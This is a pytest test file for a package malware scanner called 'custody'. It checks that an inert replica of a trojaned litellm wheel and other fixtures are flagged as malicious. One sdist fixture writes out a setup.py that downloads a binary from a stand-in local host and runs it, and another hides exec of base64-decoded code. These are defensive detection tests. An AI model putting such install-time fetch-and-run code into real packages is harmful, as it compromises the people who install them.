"""End to end through `custody scan` (in process, via click's CliRunner).

The central case is the spec's: an inert replica of the trojaned litellm 1.82.8 wheel, whose root
`.pth` start-up hook spawns Python on a base64-encoded credential stealer (the payload names
~/.ssh/id_rsa and ~/.aws/credentials under a temporary HOME and posts to 127.0.0.1:9, the discard
port). Nothing in these archives is ever executed or imported: custody only reads them.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner, Result

from custody.cli.main import cli
from custody.scan import RULES
from tests.scan.builders import (
    BENIGN_INIT,
    BENIGN_PYPROJECT,
    DEFAULT_VERSION,
    LITELLM_PTH,
    b64,
    litellm_pth,
    write_litellm_wheel,
    write_npm,
    write_sdist,
    write_site_packages,
    write_tree,
    write_wheel,
)

SEVERITIES = {"critical", "high", "medium", "low", "info"}
INERT_PRINT = "print('inert fixture payload')"
VERDICTS = {"malicious", "suspicious", "clean", "error"}


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A throw-away HOME holding fake credentials, so nothing real is ever named or touched."""
    path = tmp_path / "home"
    (path / ".ssh").mkdir(parents=True)
    (path / ".aws").mkdir()
    (path / ".ssh" / "id_rsa").write_text("FAKE-KEY-FOR-TESTS\n", encoding="utf-8")
    (path / ".aws" / "credentials").write_text("[default]\naws_access_key_id = FAKE\n", encoding="utf-8")
    return path


@pytest.fixture
def bad_wheel(tmp_path: Path, home: Path) -> Path:
    out = tmp_path / "bad"
    out.mkdir()
    return write_litellm_wheel(out, home=str(home))


@pytest.fixture
def clean_wheel(tmp_path: Path, home: Path) -> Path:
    out = tmp_path / "clean"
    out.mkdir()
    return write_litellm_wheel(out, home=str(home), with_pth=False)


def run(home: Path, *args: str) -> Result:
    return CliRunner().invoke(
        cli, ["scan", *args], env={"HOME": str(home), "CUSTODY_RULES": None}, catch_exceptions=False
    )


def run_json(home: Path, *args: str) -> tuple[int, dict[str, Any]]:
    result = run(home, "--format", "json", *args)
    return result.exit_code, json.loads(result.stdout)


def by_target(document: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {t["target"]: t for t in document["targets"]}


# ---- the litellm replica -------------------------------------------------------------------------
def test_litellm_replica_fixture_shape(bad_wheel: Path, home: Path) -> None:
    with zipfile.ZipFile(bad_wheel) as wheel:
        names = wheel.namelist()
        pth = wheel.read(LITELLM_PTH).decode()
    assert LITELLM_PTH in names and "litellm-1.82.8.dist-info/RECORD" in names
    assert pth == litellm_pth(str(home))
    # The credential paths and the endpoint are only inside the base64 payload, never in clear.
    assert "id_rsa" not in pth and ".aws" not in pth and "127.0.0.1" not in pth


def test_litellm_replica_is_malicious(bad_wheel: Path, home: Path) -> None:
    code, document = run_json(home, "--fail-on", "malicious", str(bad_wheel))
    assert code == 1
    [target] = document["targets"]
    assert target["target"] == str(bad_wheel)
    assert (target["name"], target["version"]) == ("litellm", "1.82.8")
    assert target["verdict"] == "malicious"
    assert target["score"] >= 8.0
    assert target["error"] is None
    assert isinstance(target["seconds"], float) and target["seconds"] >= 0
    findings = target["findings"]
    assert findings
    for finding in findings:
        assert set(finding) >= {"rule", "severity", "file", "line", "snippet", "reason"}
        assert finding["rule"] in RULES
        assert finding["severity"] in SEVERITIES
        assert finding["reason"]
    critical = [f for f in findings if f["severity"] == "critical"]
    assert critical and all(f["file"] == LITELLM_PTH for f in critical)
    rules = {f["rule"] for f in critical}
    assert {"startup-hook-dangerous", "decode-exec", "secret-exfiltration"} <= rules
    # The decoded payload was analysed: the stealer's credential targets are named in findings.
    exfil = [f for f in findings if f["rule"] == "secret-exfiltration"]
    assert any("SSH" in f["reason"] for f in exfil) and any("cloud" in f["reason"] for f in exfil)
    assert all(f["line"] == 1 and f["snippet"].startswith("import os, subprocess, sys") for f in critical)


def test_litellm_without_pth_is_clean(clean_wheel: Path, home: Path) -> None:
    code, document = run_json(home, "--fail-on", "malicious", str(clean_wheel))
    assert code == 0
    [target] = document["targets"]
    assert target["verdict"] == "clean"
    assert (target["name"], target["version"]) == ("litellm", "1.82.8")
    assert not [f for f in target["findings"] if f["severity"] in ("critical", "high", "medium")]
    assert target["error"] is None


def test_fail_on_suspicious_counts_malicious_too(bad_wheel: Path, clean_wheel: Path, home: Path) -> None:
    assert run(home, "--format", "json", "--fail-on", "suspicious", str(bad_wheel)).exit_code == 1
    assert run(home, "--format", "json", "--fail-on", "suspicious", str(clean_wheel)).exit_code == 0


def test_text_format_names_the_pth(bad_wheel: Path, home: Path) -> None:
    result = run(home, str(bad_wheel))
    assert result.exit_code == 1
    assert LITELLM_PTH in result.stdout
    assert "malicious" in result.stdout.lower()


# ---- exit codes ----------------------------------------------------------------------------------
def test_exit_2_for_missing_path(tmp_path: Path, home: Path) -> None:
    result = run(home, "--format", "json", str(tmp_path / "does-not-exist.whl"))
    assert result.exit_code == 2
    assert "does-not-exist.whl" in result.output.replace("\n", "")  # rich wraps long paths


def test_exit_2_for_bad_option(clean_wheel: Path, home: Path) -> None:
    assert run(home, "--format", "xml", str(clean_wheel)).exit_code == 2
    assert run(home, "--fail-on", "clean", str(clean_wheel)).exit_code == 2


def test_exit_2_for_rules_that_do_not_compile(tmp_path: Path, clean_wheel: Path, home: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "broken.yar").write_text("rule broken { condition: }\n", encoding="utf-8")
    assert run(home, "--rules", str(rules), str(clean_wheel)).exit_code == 2


@pytest.mark.parametrize("kind", ["truncated-wheel", "not-an-archive"])
def test_exit_3_for_corrupt_archive(tmp_path: Path, home: Path, kind: str) -> None:
    good = write_wheel(tmp_path)
    if kind == "truncated-wheel":
        corrupt = tmp_path / "broken-1.0.0-py3-none-any.whl"
        corrupt.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    else:
        corrupt = tmp_path / "garbage-1.0.0.tar.gz"
        corrupt.write_bytes(b"this is not an archive\n" * 4)
    code, document = run_json(home, str(corrupt))
    assert code == 3
    [target] = document["targets"]
    assert target["verdict"] == "error"
    assert isinstance(target["error"], str) and target["error"]


def test_found_wins_over_scan_error(tmp_path: Path, bad_wheel: Path, home: Path) -> None:
    corrupt = tmp_path / "garbage-1.0.0.tar.gz"
    corrupt.write_bytes(b"\x1f\x8b" + bytes(40))
    code, document = run_json(home, "--jobs", "1", str(bad_wheel), str(corrupt))
    assert code == 1
    assert [t["verdict"] for t in document["targets"]] == ["malicious", "error"]


# ---- SARIF ---------------------------------------------------------------------------------------
def test_sarif_output(bad_wheel: Path, home: Path) -> None:
    result = run(home, "--format", "sarif", str(bad_wheel))
    assert result.exit_code == 1
    document = json.loads(result.stdout)
    assert document["version"] == "2.1.0"
    assert "sarif" in document["$schema"]
    [sarif_run] = document["runs"]
    driver = sarif_run["tool"]["driver"]
    assert driver["name"] == "custody"
    declared = {rule["id"] for rule in driver["rules"]}
    results = sarif_run["results"]
    assert results
    for item in results:
        assert item["ruleId"] in declared
        assert item["ruleId"] in RULES
        assert item["level"] in ("error", "warning", "note")
        assert item["message"]["text"]
        [location] = item["locations"]
        assert location["physicalLocation"]["artifactLocation"]["uri"]
    assert {"startup-hook-dangerous", "secret-exfiltration"} <= {r["ruleId"] for r in results}
    pth_uri = f"{bad_wheel}!/{LITELLM_PTH}"
    assert any(
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == pth_uri
        and r["locations"][0]["physicalLocation"]["region"]["startLine"] == 1
        for r in results
    )


def test_sarif_reports_scan_errors(tmp_path: Path, home: Path) -> None:
    corrupt = tmp_path / "garbage-1.0.0.tar.gz"
    corrupt.write_bytes(b"this is not an archive\n" * 4)
    result = run(home, "--format", "sarif", str(corrupt))
    assert result.exit_code == 3
    results = json.loads(result.stdout)["runs"][0]["results"]
    assert [r["ruleId"] for r in results] == ["scan-error"]


# ---- parallel scanning ---------------------------------------------------------------------------
def test_jobs_1_and_2_agree(tmp_path: Path, home: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    write_litellm_wheel(corpus, home=str(home))
    (corpus / "other").mkdir()
    write_litellm_wheel(corpus / "other", home=str(home), with_pth=False, version="1.82.6")
    write_sdist(corpus, name="benignpkg")
    write_npm(corpus)
    write_sdist(
        corpus,
        name="dropperpkg",
        setup_py=(
            "import subprocess\nimport urllib.request\nfrom setuptools import setup\n\n"
            'urllib.request.urlretrieve("http://127.0.0.1:9/a.bin", "/tmp/fixture-a.bin")\n'
            'subprocess.run(["/tmp/fixture-a.bin"])\n'
            'setup(name="dropperpkg", version="1.0.0")\n'
        ),
    )
    (corpus / "notes.txt").write_text("not a package\n", encoding="utf-8")
    code1, doc1 = run_json(home, "--jobs", "1", str(corpus))
    code2, doc2 = run_json(home, "--jobs", "2", str(corpus))
    verdicts1 = [(t["target"], t["verdict"], t["score"]) for t in doc1["targets"]]
    verdicts2 = [(t["target"], t["verdict"], t["score"]) for t in doc2["targets"]]
    assert verdicts1 == verdicts2  # same results, same (task) order
    assert code1 == code2 == 1
    names = {Path(target).name: verdict for target, verdict, _ in verdicts1}
    assert names == {
        "litellm-1.82.8-py3-none-any.whl": "malicious",
        "litellm-1.82.6-py3-none-any.whl": "clean",
        f"benignpkg-{DEFAULT_VERSION}.tar.gz": "clean",
        f"fixture-npm-pkg-{DEFAULT_VERSION}.tgz": "clean",
        f"dropperpkg-{DEFAULT_VERSION}.tar.gz": "malicious",
    }
    rules1 = [sorted({f["rule"] for f in t["findings"]}) for t in doc1["targets"]]
    rules2 = [sorted({f["rule"] for f in t["findings"]}) for t in doc2["targets"]]
    assert rules1 == rules2


# ---- installed environments ----------------------------------------------------------------------
def test_installed_environment_reports_unowned_startup_file(tmp_path: Path, home: Path) -> None:
    env = tmp_path / "venv"
    site = write_site_packages(
        env,
        {
            "fixturepkg": {
                "fixturepkg/__init__.py": "VALUE = 1\n",
                "fixturepkg.pth": "/opt/fixturepkg/lib\n",  # owned by its RECORD: not unowned
            }
        },
        unowned={LITELLM_PTH: litellm_pth(str(home))},  # what `pip uninstall` would leave behind
    )
    code, document = run_json(home, str(env))
    assert code == 1
    targets = by_target(document)
    dist = targets[f"{site}::fixturepkg-{DEFAULT_VERSION}.dist-info"]
    assert dist["verdict"] == "clean"
    assert (dist["name"], dist["version"]) == ("fixturepkg", DEFAULT_VERSION)
    assert not [f for f in dist["findings"] if f["file"] == LITELLM_PTH]
    unowned = targets[f"{site}::<unowned start-up files>"]
    assert unowned["verdict"] == "malicious"
    assert unowned["kind"] == "installed"
    files = {f["file"] for f in unowned["findings"]}
    assert files == {LITELLM_PTH}
    assert "startup-hook-dangerous" in {f["rule"] for f in unowned["findings"]}


def test_installed_environment_clean_without_unowned_files(tmp_path: Path, home: Path) -> None:
    env = tmp_path / "venv"
    site = write_site_packages(env, {"fixturepkg": {"fixturepkg/__init__.py": "VALUE = 1\n"}})
    code, document = run_json(home, "--jobs", "1", str(site))
    assert code == 0
    assert [t["target"] for t in document["targets"]] == [f"{site}::fixturepkg-{DEFAULT_VERSION}.dist-info"]
    assert document["targets"][0]["verdict"] == "clean"


def test_output_file(tmp_path: Path, bad_wheel: Path, home: Path) -> None:
    out = tmp_path / "report.json"
    result = run(home, "--format", "json", "-o", str(out), str(bad_wheel))
    assert result.exit_code == 1
    assert result.stdout == ""
    document = json.loads(out.read_text(encoding="utf-8"))
    assert document["targets"][0]["verdict"] == "malicious"


def test_user_rules_directory(tmp_path: Path, home: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "marker.yar").write_text(
        'rule fixture_marker {\n  meta: description = "fixture marker"\n'
        '  strings: $a = "CUSTODY-FIXTURE-MARKER"\n  condition: $a\n}\n',
        encoding="utf-8",
    )
    path = write_wheel(tmp_path, {"fixturepkg/marked.py": 'LABEL = "CUSTODY-FIXTURE-MARKER"\n'})
    code, document = run_json(home, "--fail-on", "suspicious", "--rules", str(rules), str(path))
    assert code == 1
    [target] = document["targets"]
    assert [(f["rule"], f["file"], f["line"]) for f in target["findings"]] == [
        ("user-rule", "fixturepkg/marked.py", 1)
    ]
    assert target["verdict"] == "suspicious"
    code, document = run_json(home, "--fail-on", "suspicious", str(path))
    assert code == 0 and document["targets"][0]["findings"] == []


def test_every_command_is_reachable_through_the_lazy_group() -> None:
    from custody.cli.ledger_cmds import COMMANDS
    from custody.cli.main import _COMMANDS

    ctx = click.Context(cli)
    for name in _COMMANDS:
        command = cli.get_command(ctx, name)
        assert command is not None
        assert command.name == name
    assert {c.name for c in COMMANDS} <= set(_COMMANDS)


# ---- directories of source -----------------------------------------------------------------------
CHECKOUT_SETUP = (
    "import base64\n"
    f"exec(base64.b64decode('{b64(INERT_PRINT)}'))\n"
    "from setuptools import setup\nsetup(name='fixturepkg', version='1.0.0')\n"
)


def test_checkout_is_scanned_as_a_package(tmp_path: Path, home: Path) -> None:
    bad = write_tree(tmp_path / "bad", {"setup.py": CHECKOUT_SETUP, "fixturepkg/__init__.py": BENIGN_INIT})
    code, document = run_json(home, str(bad))
    assert code == 1
    [target] = document["targets"]
    assert (target["target"], target["kind"], target["verdict"]) == (str(bad), "source", "malicious")
    assert {f["file"] for f in target["findings"] if f["severity"] == "critical"} == {"setup.py"}
    good = write_tree(
        tmp_path / "good", {"pyproject.toml": BENIGN_PYPROJECT, "fixturepkg/__init__.py": BENIGN_INIT}
    )
    code, document = run_json(home, str(good))
    assert code == 0
    assert [(t["kind"], t["verdict"], t["name"]) for t in document["targets"]] == [
        ("source", "clean", "fixturepkg")
    ]


# ---- why a target errored ------------------------------------------------------------------------
def test_text_output_says_why_a_target_errored(tmp_path: Path, home: Path) -> None:
    corrupt = tmp_path / "garbage-1.0.0.tar.gz"
    corrupt.write_bytes(b"this is not an archive\n" * 4)
    _, document = run_json(home, str(corrupt))
    message = document["targets"][0]["error"]
    result = run(home, str(corrupt))
    assert result.exit_code == 3
    assert f"error: {message}" in " ".join(result.stdout.split())  # below the table, unfolded


# ---- -o to a path that cannot be written -----------------------------------------------------------
@pytest.mark.parametrize("fmt", ["text", "json", "sarif"])
@pytest.mark.parametrize("where", ["missing-dir", "a-directory"])
def test_unwritable_output_is_a_one_line_usage_error(
    tmp_path: Path, clean_wheel: Path, home: Path, fmt: str, where: str
) -> None:
    out = tmp_path / "nope" / "report.out" if where == "missing-dir" else tmp_path
    result = run(home, "--format", fmt, "-o", str(out), str(clean_wheel))
    assert result.exit_code == 2
    assert result.stderr.startswith(f"error: cannot write {out}: ")
    assert len(result.stderr.strip().splitlines()) == 1
    assert result.stdout == ""
